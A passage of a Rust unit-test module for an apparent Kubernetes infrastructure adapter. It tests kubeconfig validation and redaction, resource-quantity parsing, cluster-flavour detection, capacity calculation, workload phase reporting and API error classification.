        let leaky = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin";
        let e = check_client_kubeconfig(leaky).unwrap_err();
        assert!(
            e.starts_with("kubeconfigContent is not a valid kubeconfig") && !e.contains("root"),
            "{e}"
        );
        assert!(check_client_kubeconfig(&"x".repeat(MAX_KUBECONFIG_BYTES + 1)).is_err());
        let shown = format!("{:?}", KubeconfigContent(inline));
        assert!(!shown.contains("t0k3n"));
    }

    #[test]
    fn quantities() {
        assert_eq!(millicores(&Quantity("250m".into())), 250);
        assert_eq!(millicores(&Quantity("2".into())), 2000);
        assert_eq!(millicores(&Quantity("0.5".into())), 500);
        assert_eq!(mebibytes(&Quantity("512Mi".into())), 512);
        assert_eq!(mebibytes(&Quantity("8Gi".into())), 8192);
        assert_eq!(mebibytes(&Quantity("1048576".into())), 1);
        assert_eq!(mebibytes(&Quantity("1G".into())), 953);
        assert_eq!(mebibytes(&Quantity("junk".into())), 0);
    }

    fn node(json: Value) -> Node {
        serde_json::from_value(json).unwrap()
    }

    #[test]
    fn flavours_are_detected_from_nodes() {
        let plain =
            node(json!({"metadata": {"name": "n", "labels": {"kubernetes.io/arch": "amd64"}}}));
        let k3s = node(json!({"metadata": {"name": "k", "annotations": {"k3s.io/hostname": "k"}}}));
        let edge = node(json!({"metadata": {"name": "e", "labels": {EDGE_NODE_LABEL: ""}}}));
        assert_eq!(
            detect_flavour(std::slice::from_ref(&plain)),
            Flavour::Kubernetes
        );
        assert_eq!(detect_flavour(&[plain.clone(), k3s]), Flavour::K3s);
        assert_eq!(detect_flavour(&[plain, edge]), Flavour::KubeEdge);
    }

    #[test]
    fn capacity_is_allocatable_minus_requests_of_ready_nodes() {
        let ready = json!([{"type": "Ready", "status": "True"}]);
        let nodes = [
            node(
                json!({"metadata": {"name": "a", "labels": {"kubernetes.io/arch": "amd64"}},
                "status": {"allocatable": {"cpu": "4", "memory": "8Gi", GPU_RESOURCE: "2"}, "conditions": ready}}),
            ),
            node(
                json!({"metadata": {"name": "b", "labels": {"kubernetes.io/arch": "arm64"}},
                "status": {"allocatable": {"cpu": "2", "memory": "2Gi"}, "conditions": [{"type": "Ready", "status": "False"}]}}),
            ),
        ];
        let pod: Pod = serde_json::from_value(json!({"spec": {"nodeName": "a", "containers": [
            {"name": "c", "resources": {"requests": {"cpu": "500m", "memory": "1Gi"}, "limits": {GPU_RESOURCE: "1"}}}]}}))
        .unwrap();
        let c = free_capacity(&nodes, &[pod], Flavour::Kubernetes);
        assert_eq!((c.cpu_millis, c.memory_mib, c.gpus), (3500, 7168, 1));
        assert_eq!(c.architectures, vec!["x86_64".to_owned()]);
        assert_eq!(c.labels["mecplane.io/flavour"], "kubernetes");
        // KubeEdge counts edge nodes only.
        assert_eq!(free_capacity(&nodes, &[], Flavour::KubeEdge).cpu_millis, 0);
    }

    #[test]
    fn deployment_phases() {
        let d = |spec: Value, status: Value| -> Deployment {
            serde_json::from_value(
                json!({"metadata": {"generation": 2}, "spec": spec, "status": status}),
            )
            .unwrap()
        };
        let running = d(
            json!({"replicas": 2, "selector": {}, "template": {}}),
            json!({"observedGeneration": 2, "replicas": 2, "readyReplicas": 2, "updatedReplicas": 2}),
        );
        assert_eq!(deployment_status(&running).phase, WorkloadPhase::Running);
        let stale = d(
            json!({"replicas": 2, "selector": {}, "template": {}}),
            json!({"observedGeneration": 1, "replicas": 2, "readyReplicas": 2, "updatedReplicas": 2}),
        );
        assert_eq!(deployment_status(&stale).phase, WorkloadPhase::Starting);
        let stopping = d(
            json!({"replicas": 0, "selector": {}, "template": {}}),
            json!({"observedGeneration": 2, "replicas": 1}),
        );
        assert_eq!(deployment_status(&stopping).phase, WorkloadPhase::Starting);
        let stopped = d(
            json!({"replicas": 0, "selector": {}, "template": {}}),
            json!({"observedGeneration": 2}),
        );
        assert_eq!(deployment_status(&stopped).phase, WorkloadPhase::Stopped);
        let quota = d(
            json!({"replicas": 1, "selector": {}, "template": {}}),
            json!({"observedGeneration": 2, "conditions": [{"type": "ReplicaFailure", "status": "True", "reason": "FailedCreate", "message": "exceeded quota"}]}),
        );
        assert_eq!(
            deployment_status(&quota).phase,
            WorkloadPhase::Failed("exceeded quota".into())
        );
    }

    #[test]
    fn pods_that_cannot_start_fail_the_workload() {
        let pod: Pod = serde_json::from_value(
            json!({"metadata": {"name": "p"}, "status": {"containerStatuses": [
            {"name": "c", "image": "i", "imageID": "", "ready": false, "restartCount": 0,
             "state": {"waiting": {"reason": "ImagePullBackOff", "message": "not found"}}}]}}),
        )
        .unwrap();
        assert_eq!(
            pod_failure(&[pod]).as_deref(),
            Some("pod p: container c: ImagePullBackOff: not found")
        );
    }

    #[test]
    fn errors_are_classified() {
        let api = |code: u16, message: &str| {
            classify(kube::Error::Api(Box::new(kube::core::Status {
                code,
                message: message.into(),
                ..kube::core::Status::failure(message, "x")
            })))
        };
        assert!(matches!(api(409, "c"), VimError::Conflict(_)));
        assert!(matches!(api(503, "u"), VimError::Unavailable(_)));
        assert!(matches!(api(429, "t"), VimError::Unavailable(_)));
        assert!(matches!(api(422, "invalid"), VimError::Rejected(_)));
        assert!(matches!(
            api(403, "pods is forbidden: exceeded quota: q"),
            VimError::InsufficientCapacity(_)
        ));
        assert!(api(500, "x").retryable() && !api(400, "x").retryable());
    }

    #[test]
    fn helm_releases_combine_their_controllers() {
        let s = |phase: WorkloadPhase| WorkloadStatus {
            phase,
            ready_replicas: 1,
            desired_replicas: 1,
        };
        assert_eq!(release_status(&[], 1).phase, WorkloadPhase::Starting);
        assert_eq!(release_status(&[], 0).phase, WorkloadPhase::Stopped);
        assert_eq!(
            release_status(&[s(WorkloadPhase::Running), s(WorkloadPhase::Running)], 1).phase,
            WorkloadPhase::Running
        );
        assert_eq!(
            release_status(&[s(WorkloadPhase::Running), s(WorkloadPhase::Starting)], 1).phase,
            WorkloadPhase::Starting
        );
    }
}
